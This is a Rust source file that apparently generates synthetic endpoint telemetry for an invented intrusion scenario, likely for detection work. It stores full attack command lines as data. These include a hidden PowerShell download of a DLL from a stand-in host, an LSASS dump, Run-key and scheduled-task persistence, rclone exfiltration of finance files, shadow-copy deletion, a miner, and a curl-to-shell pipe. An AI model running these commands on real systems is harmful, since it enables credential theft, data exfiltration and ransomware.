//! Files and command lines of the invented world.

use crate::json::Json;
use crate::mix::Mix;

/// A file as evidence shows it; its hashes follow from its name.
#[derive(Debug)]
pub(crate) struct FileSpec {
    pub(crate) name: &'static str,
    pub(crate) path: &'static str,
    /// Publisher, signer and issuer of signed files.
    pub(crate) signed: Option<(&'static str, &'static str, &'static str)>,
    pub(crate) size: i64,
}

impl FileSpec {
    /// Bits from which the file's hashes are made.
    pub(crate) fn bits(&self, salt: u64) -> u64 {
        let of_name = self
            .name
            .bytes()
            .fold(0xCBF2_9CE4_8422_2325_u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01B3));
        Mix::new(of_name).draw(salt)
    }

    pub(crate) fn write_sha256(&self, key: &str, json: &mut Json<'_>) {
        json.hex(key, self.bits(256), 64);
    }

    pub(crate) fn write_sha1(&self, key: &str, json: &mut Json<'_>) {
        json.hex(key, self.bits(1), 40);
    }
}

const MICROSOFT: Option<(&str, &str, &str)> =
    Some(("Microsoft Corporation", "Microsoft Windows", "Microsoft Windows Production PCA 2011"));
const SYSTEM32: &str = "C:\\Windows\\System32";

const fn file(
    name: &'static str,
    path: &'static str,
    signed: Option<(&'static str, &'static str, &'static str)>,
    size: i64,
) -> FileSpec {
    FileSpec { name, path, signed, size }
}

pub(crate) static POWERSHELL: FileSpec =
    file("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", MICROSOFT, 455_680);
pub(crate) static EXPLORER: FileSpec = file("explorer.exe", "C:\\Windows", MICROSOFT, 5_236_216);
pub(crate) static OUTLOOK: FileSpec =
    file("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MICROSOFT, 44_532_312);
pub(crate) static WINWORD: FileSpec =
    file("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MICROSOFT, 1_620_872);
pub(crate) static CMD: FileSpec = file("cmd.exe", SYSTEM32, MICROSOFT, 289_792);
pub(crate) static RUNDLL: FileSpec = file("rundll32.exe", SYSTEM32, MICROSOFT, 71_680);
pub(crate) static REG: FileSpec = file("reg.exe", SYSTEM32, MICROSOFT, 77_312);
pub(crate) static SERVICES: FileSpec = file("services.exe", SYSTEM32, MICROSOFT, 731_744);
pub(crate) static SCHTASKS: FileSpec = file("schtasks.exe", SYSTEM32, MICROSOFT, 235_008);
pub(crate) static VSSADMIN: FileSpec = file("vssadmin.exe", SYSTEM32, MICROSOFT, 145_920);
pub(crate) static BASH: FileSpec = file("bash", "/usr/bin", None, 1_396_520);
/// The loader of the attack story.
pub(crate) static LOADER: FileSpec = file("ledger_update.dll", "C:\\ProgramData\\LedgerSync", None, 318_464);
pub(crate) static TUNNEL: FileSpec = file("ledgersvc.exe", "C:\\Windows\\Temp", None, 1_204_736);
pub(crate) static ARCHIVER: FileSpec = file(
    "7z.exe",
    "C:\\ProgramData\\LedgerSync",
    Some(("Igor Pavlov", "Igor Pavlov", "Example Code Signing CA")),
    557_056,
);
pub(crate) static UPLOADER: FileSpec = file("rclone.exe", "C:\\ProgramData\\LedgerSync", None, 58_204_160);
pub(crate) static ARCHIVE: FileSpec = file("q1-forecast.7z", "C:\\ProgramData\\LedgerSync\\out", None, 734_003_200);
pub(crate) static WORKBOOK: FileSpec =
    file("Acquisition forecast 2026.xlsx", "\\\\srv-fin-0008\\finance\\board", None, 2_418_944);
pub(crate) static LURE: FileSpec = file("Remittance_0302.docm", "C:\\Users\\Public\\Downloads", None, 96_256);
pub(crate) static MINER: FileSpec = file("kthreadx", "/var/tmp/.cache", None, 3_145_728);
pub(crate) static BUNDLER: FileSpec = file(
    "FreePdfSetup.exe",
    "C:\\Users\\Public\\Downloads",
    Some(("PdfTools Ltd", "PdfTools Ltd", "Example Code Signing CA")),
    4_812_800,
);
pub(crate) static LOCKER: FileSpec = file("encsvc.exe", "C:\\PerfLogs", None, 902_144);

/// A process start: image, parent and the command line around a part that varies.
#[derive(Debug)]
pub(crate) struct Command {
    pub(crate) image: &'static FileSpec,
    pub(crate) parent: &'static FileSpec,
    pub(crate) line: &'static str,
}

const fn command(image: &'static FileSpec, parent: &'static FileSpec, line: &'static str) -> Command {
    Command { image, parent, line }
}

pub(crate) static DOWNLOAD: [Command; 2] = [
    command(
        &POWERSHELL,
        &WINWORD,
        "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri 'https://cdn-telemetry.example/l/ledger_update.dll' -OutFile $env:ProgramData\\LedgerSync\\ledger_update.dll\"",
    ),
    command(&RUNDLL, &POWERSHELL, "rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain"),
];
pub(crate) static DUMP: [Command; 2] = [
    command(
        &RUNDLL,
        &CMD,
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\LedgerSync\\l.dmp full",
    ),
    command(&CMD, &RUNDLL, "cmd.exe /c \"tasklist /fi \"imagename eq lsass.exe\"\""),
];
pub(crate) static PERSIST: [Command; 2] = [
    command(
        &REG,
        &RUNDLL,
        "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v LedgerSync /t REG_SZ /d \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /f",
    ),
    command(
        &SCHTASKS,
        &CMD,
        "schtasks.exe /create /tn \\LedgerSync /tr \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /sc onlogon /rl highest /f",
    ),
];
pub(crate) static REMOTE: [Command; 2] = [
    command(&TUNNEL, &SERVICES, "C:\\Windows\\Temp\\ledgersvc.exe --pipe \\\\.\\pipe\\ledger --wait"),
    command(&CMD, &TUNNEL, "cmd.exe /c whoami /groups & net group \"Domain Admins\" /domain"),
];
pub(crate) static STAGE: [Command; 2] = [
    command(
        &ARCHIVER,
        &TUNNEL,
        "7z.exe a -mx1 -v512m C:\\ProgramData\\LedgerSync\\out\\q1-forecast.7z \\\\srv-fin-0008\\finance\\board\\*.xlsx",
    ),
    command(
        &UPLOADER,
        &CMD,
        "rclone.exe copy C:\\ProgramData\\LedgerSync\\out box:in --transfers 8 --config C:\\ProgramData\\LedgerSync\\r.conf",
    ),
];
pub(crate) static ENCRYPT: [Command; 2] = [
    command(&VSSADMIN, &LOCKER, "vssadmin.exe delete shadows /all /quiet"),
    command(&LOCKER, &SERVICES, "C:\\PerfLogs\\encsvc.exe -paths C:\\Shares -mode fast"),
];
pub(crate) static SHELL: [Command; 2] = [
    command(
        &MINER,
        &BASH,
        "/var/tmp/.cache/kthreadx -o stratum+tcp://pool.sync-relay.example:3333 -u w1 --donate-level 1",
    ),
    command(&BASH, &BASH, "bash -c \"curl -fsSL http://cdn-telemetry.example/i.sh | sh\""),
];
pub(crate) static USUAL: [Command; 3] = [
    command(&POWERSHELL, &EXPLORER, "powershell.exe -File \"C:\\Tools\\Inventory\\Collect-Inventory.ps1\" -Site Oslo"),
    command(&CMD, &EXPLORER, "cmd.exe /c \"net use S: \\\\srv-eng-0010\\share\""),
    command(&BUNDLER, &OUTLOOK, "\"C:\\Users\\Public\\Downloads\\FreePdfSetup.exe\" /S /channel=mail"),
];
